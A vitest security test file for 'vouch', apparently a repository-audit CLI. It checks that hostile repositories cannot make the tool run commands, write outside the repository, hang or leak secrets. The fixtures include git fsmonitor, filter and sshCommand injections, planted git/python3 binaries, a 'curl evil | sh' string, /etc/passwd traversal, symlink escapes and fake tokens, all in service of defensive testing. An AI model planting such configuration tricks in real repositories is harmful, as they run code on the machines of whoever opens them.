/**
 * vouch against repositories built to attack it: everything in the audited tree (files, its
 * .git/config, its settings) is untrusted. Each row sets up one attack on a real git repository
 * and runs the built CLI; the attack must neither run a command (a canary file appears), nor
 * write outside `.vouch/`, nor hang, nor print a secret.
 */
import { execFileSync, spawn } from 'node:child_process';
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { execa } from 'execa';
import { afterAll, describe, expect, it } from 'vitest';
import { BIN, REPO } from './helpers.js';

const made: string[] = [];
afterAll(() => {
  for (const dir of made) rmSync(dir, { recursive: true, force: true });
});

const TOKEN = 'ghp_R4nd0mT0k3nV4lu3F0rT3st1ngAbCdEf1234';
const AWS_KEY = 'AKIAQWERTYUIOPASDFGH';

function git(cwd: string, ...args: string[]): string {
  return execFileSync(
    'git',
    [
      '-c',
      'user.name=t',
      '-c',
      'user.email=t@t',
      '-c',
      'commit.gpgsign=false',
      '-c',
      'protocol.file.allow=always',
      ...args,
    ],
    { cwd, encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] },
  );
}

/** A scratch folder holding `repo/` (a committed git repository) and room for canaries beside it. */
function scratch(files: Record<string, string> = { 'app.py': 'x = 1\n' }): {
  base: string;
  root: string;
  canary: string;
} {
  const base = mkdtempSync(join(tmpdir(), 'vouch-hostile-'));
  made.push(base);
  const root = join(base, 'repo');
  mkdirSync(root);
  git(root, 'init', '-q', '-b', 'main');
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(root, path)), { recursive: true });
    writeFileSync(join(root, path), text);
  }
  git(root, 'add', '-A');
  git(root, 'commit', '-q', '-m', 'init');
  return { base, root, canary: join(base, 'pwned') };
}

/** Makes git compare the file's content on the next status (its stat no longer matches the index). */
function touchOld(file: string): void {
  const old = new Date('2001-01-01T00:00:00Z');
  utimesSync(file, old, old);
}

async function run(
  args: string[],
  options: { cwd?: string; env?: Record<string, string | undefined>; timeout?: number } = {},
) {
  return execa(process.execPath, [BIN, ...args], {
    cwd: options.cwd ?? REPO,
    reject: false,
    env: { NO_COLOR: '1', ...options.env },
    stdin: 'ignore',
    timeout: options.timeout ?? 30_000,
  });
}

/** A scratch repository whose every checklist item is waived and committed: ready to sign off. */
async function waivedScratch(): Promise<{ base: string; root: string; canary: string }> {
  const s = scratch({ 'app.py': 'x = 1\n' });
  const list = await run(['checklist', 'list', '--json']);
  const answers = { version: 1, answers: {} as Record<string, unknown> };
  for (const item of (JSON.parse(list.stdout) as { items: { id: string }[] }).items) {
    answers.answers[item.id] = { verdict: 'waived', reason: 'test' };
  }
  mkdirSync(join(s.root, '.vouch'));
  writeFileSync(join(s.root, '.vouch', 'answers.yaml'), JSON.stringify(answers));
  git(s.root, 'add', '-A');
  git(s.root, 'commit', '-q', '-m', 'answers');
  return s;
}

const AUDIT = ['--non-interactive', '--no-pip-audit', '--no-cache', '--fail-on', 'none'];

describe('the audited repository cannot make vouch run a command', () => {
  const rows: {
    name: string;
    setup: (s: { base: string; root: string; canary: string }) => void;
    args?: (root: string) => string[];
    env?: (s: { base: string; root: string }) => Record<string, string | undefined>;
    cwd?: 'repo';
  }[] = [
    {
      name: 'core.fsmonitor in .git/config (git status)',
      setup: ({ root, canary }) => {
        git(root, 'config', 'core.fsmonitor', `touch ${canary}; false`);
        writeFileSync(join(root, 'app.py'), 'x = 2\n');
      },
    },
    {
      name: 'core.fsmonitor through an include of a work-tree file',
      setup: ({ root, canary }) => {
        writeFileSync(join(root, 'inc.cfg'), `[core]\n\tfsmonitor = touch ${canary}; false\n`);
        git(root, 'config', 'include.path', '../inc.cfg');
      },
    },
    {
      name: 'a clean filter named in .gitattributes (git status on a stat-dirty file)',
      setup: ({ root, canary }) => {
        writeFileSync(join(root, '.gitattributes'), '*.py filter=evil\n');
        git(root, 'add', '.gitattributes');
        git(root, 'commit', '-q', '-m', 'attrs');
        git(root, 'config', 'filter.evil.clean', `sh -c 'touch ${canary}; cat'`);
        touchOld(join(root, 'app.py'));
      },
    },
    {
      name: 'a long-running process filter',
      setup: ({ root, canary }) => {
        writeFileSync(join(root, '.gitattributes'), '*.py filter=evil\n');
        git(root, 'add', '.gitattributes');
        git(root, 'commit', '-q', '-m', 'attrs');
        git(root, 'config', 'filter.evil.process', `touch ${canary}`);
        touchOld(join(root, 'app.py'));
      },
    },
    {
      name: 'a filter whose name holds "=" (escapes a naive -c key=value override)',
      setup: ({ root, canary }) => {
        writeFileSync(join(root, '.gitattributes'), '*.py filter=a=b\n');
        git(root, 'add', '.gitattributes');
        git(root, 'commit', '-q', '-m', 'attrs');
        git(root, 'config', 'filter.a=b.clean', `sh -c 'touch ${canary}; cat'`);
        touchOld(join(root, 'app.py'));
      },
    },
    {
      name: "a filter in a submodule's own config",
      setup: ({ base, root, canary }) => {
        const sub = join(base, 'sub');
        mkdirSync(sub);
        git(sub, 'init', '-q', '-b', 'main');
        writeFileSync(join(sub, 'lib.py'), 'y = 1\n');
        writeFileSync(join(sub, '.gitattributes'), '*.py filter=evil\n');
        git(sub, 'add', '-A');
        git(sub, 'commit', '-q', '-m', 'sub');
        git(root, 'submodule', '-q', 'add', sub, 'sub');
        git(root, 'commit', '-q', '-m', 'add sub');
        git(join(root, 'sub'), 'config', 'filter.evil.clean', `sh -c 'touch ${canary}; cat'`);
        touchOld(join(root, 'sub', 'lib.py'));
      },
    },
    {
      name: 'settings naming /bin/sh as bandit (runs the file `json` from the repository)',
      setup: ({ root, canary }) => {
        writeFileSync(join(root, 'json'), `touch ${canary}\n`);
        writeFileSync(join(root, 'pyproject.toml'), '[tool.vouch.bandit]\npath = "/bin/sh"\n');
      },
    },
    {
      name: 'settings naming a script inside the repository as bandit',
      setup: ({ root, canary }) => {
        writeFileSync(join(root, 'evil'), `#!/bin/sh\ntouch ${canary}\n`);
        chmodSync(join(root, 'evil'), 0o755);
        writeFileSync(join(root, 'pyproject.toml'), '[tool.vouch.bandit]\npath = "./evil"\n');
      },
      cwd: 'repo',
    },
    {
      name: 'settings naming an absolute path inside the repository as bandit',
      setup: ({ root, canary }) => {
        mkdirSync(join(root, 'tools'));
        writeFileSync(join(root, 'tools', 'bandit'), `#!/bin/sh\ntouch ${canary}\n`);
        chmodSync(join(root, 'tools', 'bandit'), 0o755);
        writeFileSync(join(root, '.vouch.yaml'), `bandit:\n  path: ${join(root, 'tools', 'bandit')}\n`);
      },
    },
    {
      name: 'PYTHONPATH naming the repository (sitecustomize.py, a bandit package)',
      setup: ({ root, canary }) => {
        writeFileSync(join(root, 'sitecustomize.py'), `open(${JSON.stringify(canary)}, 'w').close()\n`);
        writeFileSync(join(root, 'usercustomize.py'), `open(${JSON.stringify(canary)}, 'w').close()\n`);
        mkdirSync(join(root, 'bandit'));
        writeFileSync(join(root, 'bandit', '__init__.py'), `open(${JSON.stringify(canary)}, 'w').close()\n`);
      },
      env: ({ root }) => ({ PYTHONPATH: root }),
    },
    {
      name: 'a `git` planted in the repository, PATH starting with an empty entry',
      setup: ({ root, canary }) => {
        writeFileSync(join(root, 'git'), `#!/bin/sh\ntouch ${canary}\nexec /usr/bin/git "$@"\n`);
        chmodSync(join(root, 'git'), 0o755);
      },
      env: () => ({ PATH: `:${process.env.PATH ?? '/usr/bin:/bin'}` }),
    },
    {
      name: 'a `python3` planted in the repository, bandit started through /usr/bin/env, PATH with "."',
      setup: ({ base, root, canary }) => {
        writeFileSync(join(root, 'python3'), `#!/bin/sh\ntouch ${canary}\nexec /usr/bin/python3 "$@"\n`);
        chmodSync(join(root, 'python3'), 0o755);
        mkdirSync(join(base, 'bin'));
        writeFileSync(
          join(base, 'bin', 'bandit'),
          '#!/usr/bin/env python3\nimport sys\nfrom bandit.cli.main import main\nsys.exit(main())\n',
        );
        chmodSync(join(base, 'bin', 'bandit'), 0o755);
      },
      env: ({ base }) => ({ PATH: `.:${join(base, 'bin')}:${process.env.PATH ?? '/usr/bin:/bin'}` }),
      cwd: 'repo',
    },
  ];

  it.each(rows)('$name', async (row) => {
    const s = scratch({ 'app.py': 'x = 1\n', 'requirements.txt': 'flask==2.0.0\n' });
    row.setup(s);
    const cwd = row.cwd === 'repo' ? s.root : REPO;
    const target = row.cwd === 'repo' ? '.' : s.root;
    const result = await run([target, ...AUDIT], { cwd, env: row.env?.(s) });
    expect(existsSync(s.canary), `${row.name}: the canary was created\n${result.stderr}`).toBe(false);
    expect(result.stderr).not.toMatch(/internal error/);
    expect([0, 2]).toContain(result.exitCode);
  });

  it('a partial clone whose missing objects would be fetched with core.sshCommand', async () => {
    const base = mkdtempSync(join(tmpdir(), 'vouch-hostile-'));
    made.push(base);
    const server = join(base, 'server');
    mkdirSync(server);
    git(server, 'init', '-q', '-b', 'main');
    git(server, 'config', 'uploadpack.allowFilter', 'true');
    const lines = Array.from({ length: 200 }, (_, i) => `line ${i}`).join('\n');
    writeFileSync(join(server, 'f1.py'), `${lines}\n`);
    git(server, 'add', '-A');
    git(server, 'commit', '-q', '-m', 'init');
    git(base, 'clone', '-q', '--filter=blob:none', '--no-checkout', `file://${server}`, 'repo');
    const root = join(base, 'repo');
    git(root, 'read-tree', 'HEAD');
    // A staged, inexact rename: telling it apart needs the blob of f1.py, which was never fetched.
    writeFileSync(join(root, 'g.py'), `${lines}\nextra\n`);
    git(root, 'add', 'g.py');
    git(root, 'rm', '-q', '--cached', 'f1.py');
    const canary = join(base, 'pwned');
    git(root, 'config', 'remote.origin.url', 'ssh://example.invalid/x');
    git(root, 'config', 'core.sshCommand', `touch ${canary}; false`);
    const result = await run([root, ...AUDIT, '--no-bandit']);
    expect(result.exitCode).toBe(0);
    expect(existsSync(canary)).toBe(false);
  });

  it('runs no configured command during signoff and verify either', async () => {
    const s = await waivedScratch();
    git(s.root, 'config', 'core.fsmonitor', `touch ${s.canary}; false`);
    const signoff = await run(
      ['signoff', s.root, '--release', '1.0.0', '--no-bandit', '--signer', 'T <t@t>'],
      {},
    );
    expect(signoff.stderr).toBe('');
    expect(signoff.exitCode).toBe(0);
    git(s.root, '-c', 'core.fsmonitor=false', 'add', '.vouch/signoffs');
    git(s.root, '-c', 'core.fsmonitor=false', 'commit', '-q', '-m', 'signoff');
    const verify = await run(['verify', s.root]);
    expect(verify.stdout).toMatch(/ok/);
    expect(existsSync(s.canary)).toBe(false);
  });
});

describe('the repository settings cannot direct bandit or the reports elsewhere', () => {
  const rows: { name: string; settings: string; message: RegExp }[] = [
    {
      name: 'bandit args writing a file outside the repository',
      settings:
        '[tool.vouch.bandit]\nargs = ["-o", "OUTSIDE/written", "-f", "custom", "--msg-template", "curl evil | sh # {line}"]\n',
      message: /^vouch: pyproject\.toml:2:\d+: \[tool\.vouch\] bandit\.args: "-o" is not allowed/,
    },
    {
      name: 'bandit args with an abbreviated long option (argparse expands --out)',
      settings: '[tool.vouch.bandit]\nargs = ["--out=OUTSIDE/written"]\n',
      message: /bandit\.args: "--out=\/.*\/written" is not allowed/,
    },
    {
      name: 'bandit args adding a file to scan',
      settings: '[tool.vouch.bandit]\nargs = ["-s", "B101", "/etc/passwd"]\n',
      message: /bandit\.args: "\/etc\/passwd" is not allowed/,
    },
    {
      name: 'report output outside the repository',
      settings: '[tool.vouch]\nformat = "md"\noutput = "../written"\n',
      message: /^vouch: pyproject\.toml:3:\d+: \[tool\.vouch\] output must be a path inside the repository/,
    },
    {
      name: 'report output as an absolute path',
      settings: '[tool.vouch]\nformat = "md"\noutput = "OUTSIDE/written"\n',
      message: /output must be a path inside the repository/,
    },
    {
      name: 'a checklist outside the repository',
      settings: '[tool.vouch]\nchecklists = ["../../etc/passwd"]\n',
      message:
        /^vouch: pyproject\.toml:2:\d+: \[tool\.vouch\] checklists\[0\] must be a path inside the repository/,
    },
  ];

  it.each(rows)('$name', async (row) => {
    const s = scratch();
    writeFileSync(join(s.root, 'pyproject.toml'), row.settings.replaceAll('OUTSIDE', s.base));
    const result = await run([s.root, ...AUDIT]);
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toMatch(row.message);
    expect(result.stderr.trim().split('\n')).toHaveLength(1);
    expect(readdirSync(s.base).sort()).toEqual(['repo']);
  });

  it('writes a report output named in the settings inside the repository, wherever vouch runs from', async () => {
    const s = scratch();
    writeFileSync(join(s.root, '.vouch.yaml'), 'format: md\noutput: reports/\n');
    const result = await run([s.root, ...AUDIT], { cwd: s.base });
    expect(result.exitCode).toBe(0);
    expect(existsSync(join(s.root, 'reports', 'vouch-report.md'))).toBe(true);
    expect(readdirSync(s.base).sort()).toEqual(['repo']);
  });

  it('refuses a settings output folder that is a symlink leading out of the repository', async () => {
    const s = scratch();
    mkdirSync(join(s.base, 'elsewhere'));
    symlinkSync(join(s.base, 'elsewhere'), join(s.root, 'reports'));
    writeFileSync(join(s.root, '.vouch.yaml'), 'format: md\noutput: reports/sub/\n');
    const result = await run([s.root, ...AUDIT]);
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toMatch(/^vouch: \.vouch\.yaml:2:\d+: output must be a path inside the repository/);
    expect(readdirSync(join(s.base, 'elsewhere'))).toEqual([]);
  });

  it('still takes an explicit --output anywhere (the person running vouch chose it)', async () => {
    const s = scratch();
    const result = await run([s.root, ...AUDIT, '--format', 'md', '--output', join(s.base, 'mine.md')]);
    expect(result.exitCode).toBe(0);
    expect(existsSync(join(s.base, 'mine.md'))).toBe(true);
  });
});

describe('vouch writes only inside the repository', () => {
  it('refuses a .vouch that is a symlink out of the repository', async () => {
    const s = scratch();
    mkdirSync(join(s.base, 'outside'));
    symlinkSync(join(s.base, 'outside'), join(s.root, '.vouch'));
    const result = await run([s.root, '--non-interactive', '--no-bandit', '--fail-on', 'none']);
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toMatch(/^vouch: \.vouch is a symbolic link/);
    expect(readdirSync(join(s.base, 'outside'))).toEqual([]);
  });

  it('refuses an answers file that is a symlink, without reading it', async () => {
    const s = scratch();
    writeFileSync(join(s.base, 'creds.yaml'), `${TOKEN}: 1\n`);
    mkdirSync(join(s.root, '.vouch'));
    symlinkSync(join(s.base, 'creds.yaml'), join(s.root, '.vouch', 'answers.yaml'));
    const result = await run([s.root, ...AUDIT]);
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toMatch(/^vouch: \.vouch\/answers\.yaml is a symbolic link/);
    expect(result.stderr).not.toContain('R4nd0m');
  });

  it('refuses a sign-off folder that is a symlink out of the repository', async () => {
    const s = scratch();
    mkdirSync(join(s.base, 'outside'));
    mkdirSync(join(s.root, '.vouch'));
    symlinkSync(join(s.base, 'outside'), join(s.root, '.vouch', 'signoffs'));
    const result = await run(['signoff', s.root, '--release', '1.0.0', '--no-bandit', '--allow-dirty']);
    expect(result.exitCode).toBe(2);
    expect(readdirSync(join(s.base, 'outside'))).toEqual([]);
  });
});

describe('special files never hang vouch', () => {
  const rows: { name: string; fifo: string; args?: string[]; exit: number[]; message?: RegExp }[] = [
    {
      name: 'pyproject.toml is a FIFO',
      fifo: 'pyproject.toml',
      exit: [2],
      message: /^vouch: pyproject\.toml:1:1: not a regular file/,
    },
    {
      name: '.vouch.yaml is a FIFO',
      fifo: '.vouch.yaml',
      exit: [2],
      message: /^vouch: \.vouch\.yaml:1:1: not a regular file/,
    },
    {
      name: 'the answers file is a FIFO',
      fifo: '.vouch/answers.yaml',
      exit: [2],
      message: /^vouch: \.vouch\/answers\.yaml:1:1: not a regular file/,
    },
    { name: 'the bandit configuration is a FIFO', fifo: '.bandit', exit: [0] },
    {
      name: 'the analysis cache is a FIFO',
      fifo: '.vouch/cache/analysis-v2.json',
      args: ['--cache'],
      exit: [0, 2],
    },
    { name: 'a sign-off record is a FIFO (verify)', fifo: '.vouch/signoffs/1.0.0.json', args: [], exit: [1] },
  ];

  it.each(rows)('$name', async (row) => {
    const s = scratch();
    mkdirSync(dirname(join(s.root, row.fifo)), { recursive: true });
    execFileSync('mkfifo', [join(s.root, row.fifo)]);
    const args = row.fifo.includes('signoffs') ? ['verify', s.root] : [s.root, ...AUDIT, ...(row.args ?? [])];
    const result = await run(args, { timeout: 20_000 });
    expect(result.timedOut, `${row.name}: vouch hung`).toBe(false);
    expect(row.exit).toContain(result.exitCode);
    if (row.message) expect(result.stderr).toMatch(row.message);
  });

  it('ignores a .gitignore that is a FIFO outside git', async () => {
    const base = mkdtempSync(join(tmpdir(), 'vouch-hostile-'));
    made.push(base);
    writeFileSync(join(base, 'app.py'), 'x = 1\n');
    execFileSync('mkfifo', [join(base, '.gitignore')]);
    const result = await run([base, ...AUDIT, '--no-bandit'], { timeout: 20_000 });
    expect(result.timedOut).toBe(false);
    expect(result.exitCode).toBe(0);
  });
});

describe('no secret reaches the terminal through an error message', () => {
  const rows: { name: string; files: Record<string, string> }[] = [
    {
      name: 'an unknown key in the answers file',
      files: { '.vouch/answers.yaml': `version: 1\n${TOKEN}: 1\nanswers: {}\n` },
    },
    { name: 'an unknown key in .vouch.yaml', files: { '.vouch.yaml': `${TOKEN}: 1\n` } },
    { name: 'an unknown key in [tool.vouch]', files: { 'pyproject.toml': `[tool.vouch]\n${TOKEN} = 1\n` } },
    {
      name: 'an unknown item disabled in the settings',
      files: { '.vouch.yaml': `disable:\n  ${AWS_KEY}: because\n` },
    },
    {
      name: 'an unknown item disabled in [tool.vouch.disable]',
      files: { 'pyproject.toml': `[tool.vouch.disable]\n${TOKEN} = "x"\n` },
    },
    {
      name: 'a checklist file with an unknown key',
      files: { '.vouch.yaml': 'checklists: [ours.yaml]\n', 'ours.yaml': `id: x\n${TOKEN}: 1\n` },
    },
  ];

  it.each(rows)('$name', async (row) => {
    const s = scratch();
    for (const [path, text] of Object.entries(row.files)) {
      mkdirSync(dirname(join(s.root, path)), { recursive: true });
      writeFileSync(join(s.root, path), text);
    }
    const result = await run([s.root, ...AUDIT]);
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toMatch(/^vouch: /);
    expect(result.stderr).not.toContain('R4nd0mT0k3n');
    expect(result.stderr).not.toContain('QWERTYUIOPASDFGH');
  });
});

describe('bad input is one line and exit 2', () => {
  it('an --output without a value', async () => {
    const s = scratch();
    const result = await run([s.root, '--non-interactive', '--no-bandit', '--output'], { cwd: s.base });
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toMatch(/^vouch: --output needs a file or folder/);
    expect(readdirSync(s.base).sort()).toEqual(['repo']);
  });

  it('a report that cannot be written', async () => {
    const s = scratch();
    writeFileSync(join(s.base, 'file'), '');
    const result = await run([
      s.root,
      ...AUDIT,
      '--no-bandit',
      '--format',
      'md,json',
      '--output',
      join(s.base, 'file', 'sub/'),
    ]);
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toMatch(/^vouch: cannot write the report /);
    expect(result.stderr).not.toMatch(/internal error/);
    expect(result.stderr.trim().split('\n')).toHaveLength(1);
  });

  it('says so when git is not on PATH in a git repository', async () => {
    const s = scratch();
    const result = await run([s.root, ...AUDIT, '--no-bandit'], { env: { PATH: '/nonexistent' } });
    expect(result.exitCode).toBe(0);
    expect(result.stdout).toMatch(/git not found on PATH/);
  });
});

describe('verify counts every change since the sign-off', () => {
  it('fails when HEAD moved a file into .vouch/signoffs (a rename is not "only sign-off records")', async () => {
    const s = await waivedScratch();
    const signoff = await run([
      'signoff',
      s.root,
      '--release',
      '1.0.0',
      '--no-bandit',
      '--signer',
      'T <t@t>',
    ]);
    expect(signoff.exitCode).toBe(0);
    git(s.root, 'add', '.vouch/signoffs');
    git(s.root, 'mv', 'app.py', '.vouch/signoffs/app.json');
    git(s.root, 'commit', '-q', '-m', 'sneak');
    const verify = await run(['verify', s.root]);
    expect(verify.stdout).toMatch(/verify failed: sign-off is for commit/);
    expect(verify.exitCode).toBe(1);
  });
});

describe('no stack trace, whatever the input', () => {
  it('a reader that closes the pipe early (vouch checklist list | head -c 10)', async () => {
    // The reading end is gone before vouch writes a byte, as when `head` has already exited.
    const child = spawn(process.execPath, [BIN, 'checklist', 'list', '--json'], {
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    child.stdout?.destroy();
    let stderr = '';
    child.stderr?.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
    const code = await new Promise<number | null>((done) => child.on('close', done));
    expect(stderr).not.toMatch(/EPIPE|at .*\(node:/);
    expect(code).toBe(0);
  });

  const maxAges = ['abc', '-5', '0', '1.5'];
  it.each(maxAges)('signoff --max-age %s', async (value) => {
    const s = scratch();
    const result = await run(['signoff', s.root, '--release', '1.0.0', '--no-bandit', '--max-age', value]);
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toMatch(/^vouch: --max-age must be a whole number of days/);
  });
});

describe('a cache shipped with the repository cannot hide findings', () => {
  it('ignores a committed .vouch/cache that says app.py has no findings', async () => {
    const s = scratch({ 'app.py': 'eval(input())\n' });
    const cacheHome = join(s.base, 'xdg');
    const env = { XDG_CACHE_HOME: cacheHome };
    // A real cache of this very file, made by vouch, then emptied of its findings, as an attacker would.
    const first = await run([s.root, '--non-interactive', '--no-bandit', '--fail-on', 'none', '-v'], {
      env: { XDG_CACHE_HOME: join(s.base, 'attacker') },
    });
    expect(first.exitCode).toBe(0);
    const cacheFile = join(s.root, '.vouch', 'cache', 'analysis-v2.json');
    const text = readFileSync(cacheFile, 'utf8');
    const [tag, body] = [text.slice(0, text.indexOf('\n')), text.slice(text.indexOf('\n') + 1)];
    const data = JSON.parse(body) as { python: { files: Record<string, { findings: unknown[] }> } };
    for (const file of Object.values(data.python.files)) file.findings = [];
    for (const forged of [JSON.stringify(data), `${tag}\n${JSON.stringify(data)}`]) {
      writeFileSync(cacheFile, forged);
      const result = await run([s.root, '--non-interactive', '--no-bandit', '--fail-on', 'fail', '-q'], {
        env,
      });
      expect(result.stdout).toMatch(/no-eval-exec/);
    }
  });

  it('still reuses its own cache', async () => {
    const s = scratch({ 'app.py': 'eval(input())\n' });
    const env = { XDG_CACHE_HOME: join(s.base, 'xdg') };
    await run([s.root, '--non-interactive', '--no-bandit', '--fail-on', 'none'], { env });
    const second = await run([s.root, '--non-interactive', '--no-bandit', '--fail-on', 'fail', '-v'], {
      env,
    });
    expect(second.stderr).toMatch(/python: done — 1 files \(0 parsed, 1 from cache\)/);
    expect(second.stdout).toMatch(/no-eval-exec/);
  });
});

describe('a repository git will not read is said to be one', () => {
  it('notices a .git git refuses, and does not override git’s protection', async () => {
    const base = mkdtempSync(join(tmpdir(), 'vouch-hostile-'));
    made.push(base);
    writeFileSync(join(base, 'app.py'), 'x = 1\n');
    writeFileSync(join(base, '.git'), 'gitdir: /nonexistent/elsewhere\n');
    const result = await run([base, ...AUDIT, '--no-bandit']);
    expect(result.exitCode).toBe(0);
    expect(result.stdout).toMatch(/git did not accept this repository/);
  });
});

describe('no terminal escape sequence from the repository reaches the terminal', () => {
  it('a file named with escapes, in the summary', async () => {
    const s = scratch({ '\u001b]0;PWNED\u0007\u001b[2J.py': 'eval(input())\n', 'app.py': 'x = 1\n' });
    const result = await run([s.root, '--non-interactive', '--no-bandit', '--fail-on', 'none', '-v']);
    expect(result.stdout).toContain('\\x1b]0;PWNED\\x07\\x1b[2J.py');
    // eslint-disable-next-line no-control-regex
    expect(result.stdout + result.stderr).not.toMatch(/[\u0007\u001b\u009b]/u);
  });

  it('a settings key with escapes, in the error', async () => {
    const s = scratch();
    writeFileSync(join(s.root, '.vouch.yaml'), '"\\e]0;PWNED\\a": 1\n');
    const result = await run([s.root, ...AUDIT]);
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toContain('\\x1b]0;PWNED\\x07');
    // eslint-disable-next-line no-control-regex
    expect(result.stderr).not.toMatch(/[\u0007\u001b]/u);
  });

  it('a signer with escapes, in verify', async () => {
    const s = await waivedScratch();
    const signoff = await run([
      'signoff',
      s.root,
      '--release',
      '1.0.0',
      '--no-bandit',
      '--signer',
      'Eve \u001b[2K\r<e@e>',
    ]);
    // eslint-disable-next-line no-control-regex
    expect(signoff.stdout).not.toMatch(/[\u001b\r]/u);
    const verify = await run(['verify', s.root]);
    expect(verify.stdout).toMatch(/^vouch: ok: .*Eve \\x1b\[2K\\x0d<e@e>/u);
    // eslint-disable-next-line no-control-regex
    expect(verify.stdout).not.toMatch(/[\u001b\r]/u);
  });
});
